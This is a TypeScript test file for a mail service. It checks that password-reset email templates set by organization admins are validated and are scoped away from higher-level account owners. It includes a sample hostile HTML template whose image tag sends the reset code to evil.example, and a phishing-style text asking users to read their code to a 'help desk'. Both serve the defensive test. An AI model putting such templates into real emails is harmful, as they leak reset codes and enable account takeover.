import assert from 'node:assert/strict'
import { test } from 'node:test'
import { MessageType } from '../../../contract/gen/signet/mail/v1/mail_pb.ts'
import { MailService } from '../../../contract/gen/signet/mail/v1/mail_service_pb.ts'
import { UserService } from '../../../contract/gen/signet/user/v2/user_service_pb.ts'
import { engines } from '../../../test/support/engines.ts'
import { isRefused } from '../../../test/support/small-world.ts'
import { openWorld } from '../../../test/support/world.ts'
import { appointMember } from '../administrators/index.ts'
import { listInboxMails } from './index.ts'

const users = UserService.method
const { setMessageText } = MailService.method

for (const engine of engines) {
  test(`users above an organization get the texts of the instance on ${engine.name}`, async (t) => {
    const world = await openWorld({ engine })
    t.after(() => world.dispose())
    const { defaultOrganizationId: organizationId, instanceId, owner } = world
    const { request: orgOwner } = await world.addMachine({ organizationRoles: ['ORG_OWNER'] })
    const of = { type: MessageType.PASSWORD_RESET, language: 'en', organizationId }
    const evil = { html: '<img src="https://evil.example/?c={{.Code}}">' }
    await isRefused(world.call(setMessageText, { ...of, text: evil }, orgOwner), 'mail.text_invalid', 'text.html')
    const phishing = { text: 'Tell our help desk {{.Code}}', html: '<p>{{.Text}}</p><p>{{.Code}}</p>' }
    await world.call(setMessageText, { ...of, text: phishing }, orgOwner)

    const mailTo = async (
      name: string,
      roles: readonly string[],
      scope: Parameters<typeof appointMember>[1]['scope'] = { level: 'instance', id: instanceId },
    ): Promise<string> => {
      const address = `${name}@example.com`
      const profile = { firstName: 'A', lastName: 'B', preferredLanguage: 'en' }
      const email = { email: address, verification: { case: 'isVerified', value: true } } as const
      const { userId } = await world.call(users.addHumanUser, { username: name, profile, email }, owner)
      if (roles.length > 0)
        await world.store.write(world.origin(), (work) => appointMember(work, { scope, userId, roles }))
      await world.call(users.passwordReset, { userId }, orgOwner)
      await world.runJobs()
      const { mails } = await listInboxMails(world.app, { recipient: address, limit: 1, descending: true })
      return mails[0]?.html ?? assert.fail('no mail came')
    }
    assert.match(await mailTo('plain', []), /help desk/)
    assert.doesNotMatch(await mailTo('chief', ['IAM_OWNER']), /help desk/)
    // What a settings manager writes is not for owners, until one of them has saved it.
    const { request: manager } = await world.addMachine({ organizationRoles: ['ORG_SETTINGS_MANAGER'] })
    await world.call(setMessageText, { ...of, text: { text: 'Tell our new help desk {{.Code}}' } }, manager)
    assert.match(await mailTo('plain-2', []), /new help desk/)
    const ofOwner = () => ({ level: 'organization', id: organizationId }) as const
    assert.doesNotMatch(await mailTo('owner-2', ['ORG_OWNER'], ofOwner()), /help desk/)
    await world.call(setMessageText, { ...of, text: { text: 'Tell our new help desk {{.Code}}' } }, orgOwner)
    assert.match(await mailTo('owner-3', ['ORG_OWNER'], ofOwner()), /new help desk/)
    // Those of the instance are for all.
    const ofInstance = { ...of, organizationId: '', text: { text: 'From the instance {{.Code}}' } }
    await world.call(setMessageText, ofInstance, owner)
    assert.match(await mailTo('chief-2', ['IAM_OWNER_VIEWER']), /From the instance/)
  })
}
